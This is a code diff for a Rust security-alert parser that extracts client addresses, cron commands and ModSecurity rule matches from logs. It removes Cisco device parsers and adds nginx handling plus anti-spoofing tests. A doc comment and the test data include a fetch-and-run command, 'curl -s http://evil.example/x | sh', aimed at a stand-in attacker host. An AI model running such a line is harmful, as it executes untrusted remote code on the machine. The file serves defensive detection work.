@@ -48,26 +48,13 @@ pub(crate) fn client_at_mark(alert: &Alert) -> Option<IpAddr> {
             .flatten()
             .any(|name| name.starts_with("syscheck") || name == "rootcheck");
     let line = alert.full_log().filter(|line| !is_of_files && !is_json(line))?;
-    let line = line.trim_end();
-    let of_cisco = alert.decoder().and_then(|decoder| client_of_cisco(decoder, line));
-    of_cisco.or_else(|| client_in(line))
+    client_in(line.trim_end())
 }
 
 fn client_in(line: &str) -> Option<IpAddr> {
     const READERS: [fn(&str) -> Option<&str>; 7] = [mysql, postgresql, exim, fail2ban, esxi, fortigate, asa];
     let client = READERS.iter().find_map(|read| read(line))?;
     address::parse(client).map(|(ip, _)| ip)
-}
-
-/// Each decoder found the mark of its device where that writes it.
-fn client_of_cisco(decoder: &str, line: &str) -> Option<IpAddr> {
-    let client = match decoder {
-        "cisco-asa" => asa_scan(line),
-        "cisco-ios" => ios(line),
-        "cisco-ftd" => ftd(line),
-        _ => None,
-    };
-    address::parse(client?).map(|(ip, _)| ip)
 }
 
 /// `Access denied for user 'root'@'203.0.113.9' (using password: YES)`, which ends the line.
@@ -150,28 +137,6 @@ fn asa(line: &str) -> Option<&str> {
     before.contains("%ASA-").then_some(client)
 }
 
-/// `%ASA-4-733101: Host 203.0.113.9 is attacking. …`.
-fn asa_scan(line: &str) -> Option<&str> {
-    let (_, told) = line.split_once("%ASA-")?;
-    let (host, does) = told.strip_prefix("4-733101: Host ")?.split_once(' ')?;
-    does.starts_with("is attacking").then_some(host)
-}
-
-/// `%SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: eve] [Source: 203.0.113.9] [localport: 22] …`: what the client chose stands before it.
-fn ios(line: &str) -> Option<&str> {
-    let (before, client) = line.rsplit_once("] [Source: ")?;
-    let (client, rest) = client.split_once(']')?;
-    (before.contains("%SEC_LOGIN-") && rest.starts_with(" [localport: ")).then_some(client)
-}
-
-/// `%FTD-1-430001: …, SrcIP: 203.0.113.9, DstIP: …`: the ends stand before all that a client may choose.
-fn ftd(line: &str) -> Option<&str> {
-    let (_, told) = line.split_once("%FTD-")?;
-    let (before, client) = told.split_once(" SrcIP: ")?;
-    let client = client.split([',', ' ']).next()?;
-    (!before.contains('"')).then_some(client)
-}
-
 /// The command that cron ran, as it says itself: `CRON[123]: (root) CMD (curl -s http://evil.example/x | sh)`.
 pub(crate) fn command_of_cron(alert: &Alert) -> Option<&str> {
     let program = alert
@@ -182,6 +147,7 @@ pub(crate) fn command_of_cron(alert: &Alert) -> Option<&str> {
 }
 
 fn is_cron(program: &str) -> bool {
+    let program = program.rsplit('/').next().unwrap_or(program);
     ["cron", "crond"].iter().any(|name| name.eq_ignore_ascii_case(program))
 }
 
@@ -206,7 +172,8 @@ fn matched_in(line: &str) -> Option<&str> {
     // That there is a whole address in a parameter: where somebody comes back to, mostly.
     const REDIRECT: &str = "931130";
     let (head, told) = line.split_once(" ModSecurity: ")?;
-    // What the client sent stands before the fields that the program adds.
+    // What the client sent stands before the fields that the program adds, or behind them where nginx adds its own.
+    let told = told.split(", client: ").next().unwrap_or(told);
     let (_, id) = told.rsplit_once("[id \"")?;
     let (id, behind) = id.split_once("\"]")?;
     let is_attack = id.len() == 6 && id != REDIRECT && KINDS.iter().any(|kind| id.starts_with(kind));
@@ -390,50 +357,6 @@ mod tests {
     }
 
     #[test]
-    fn devices_of_cisco_name_who_came_where_nobody_else_may_write() {
-        for (decoder, line) in [
-            (
-                "cisco-asa",
-                "Jan 20 2026 09:02:17 asa01 : %ASA-4-733101: Host 203.0.113.9 is attacking. Current burst rate is 200 per second",
-            ),
-            (
-                "cisco-ios",
-                "%SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: a] [Source: 8.8.8.8] [Source: 203.0.113.9] [localport: 22] [Reason: x]",
-            ),
-            (
-                "cisco-ftd",
-                "<113>Jan 20 09:02:17 ftd : %FTD-1-430001: Protocol: tcp, SrcIP: 203.0.113.9, DstIP: 10.1.1.20, URL: SrcIP: 8.8.8.8",
-            ),
-        ] {
-            assert_eq!(
-                client_of_cisco(decoder, line),
-                Some("203.0.113.9".parse().unwrap()),
-                "{line}"
-            );
-            assert_eq!(client_in(line), None, "{line}");
-        }
-        for (decoder, line) in [
-            ("cisco-asa", "%ASA-4-733101: Host eve is attacking"),
-            (
-                "cisco-asa",
-                "%ASA-6-113005: Rejected : user = x%ASA-4-733101: Host 8.8.8.8 is attacking : user IP = 203.0.113.9",
-            ),
-            (
-                "cisco-asa",
-                "%ASA-6-113005: Rejected : user = %FTD- SrcIP: 8.8.8.8, : user IP = 203.0.113.9",
-            ),
-            (
-                "cisco-ios",
-                "%SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: a] [Source: 8.8.8.8] x",
-            ),
-            ("cisco-ftd", "app: SrcIP: 8.8.8.8,"),
-            ("su", "%ASA-4-733101: Host 8.8.8.8 is attacking"),
-        ] {
-            assert_eq!(client_of_cisco(decoder, line), None, "{line}");
-        }
-    }
-
-    #[test]
     fn what_cron_ran_is_read_from_its_own_lines() {
         for line in [
             "Jan 20 09:02:17 lnx5 CRON[123]: (root) CMD (curl -s http://evil.example/x | (sh))",
@@ -486,6 +409,10 @@ mod tests {
             assert_eq!(matched_in(&line), None, "{line}");
         }
         // What the client sent names another rule than the program.
+        let referrer = format!(r#", client: 203.0.113.9, server: x, referrer: "[id "932100"] [data "{TOLD}""#);
+        assert_eq!(matched_in(&(line(NGINX, "920350", "x") + &referrer)), None);
+        let referrer = r#", client: 203.0.113.9, server: x, referrer: "[id "1"]""#;
+        assert!(matched_in(&(line(NGINX, "932100", TOLD) + referrer)).is_some());
         let sent =
             line(APACHE, "920350", "x").replace("(phase 2).", &format!(r#"(Value: `[id "932100"] [data "{TOLD}"]')"#));
         assert_eq!(matched_in(&sent), None);
